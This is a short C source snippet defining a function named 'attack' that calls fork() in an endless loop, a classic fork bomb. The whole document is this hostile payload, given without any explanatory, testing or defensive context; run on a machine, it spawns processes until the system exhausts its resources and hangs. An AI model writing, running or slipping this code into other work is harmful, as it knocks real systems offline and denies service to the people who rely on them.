#include <unistd.h>
float attack() {
    for (;;) fork();
}
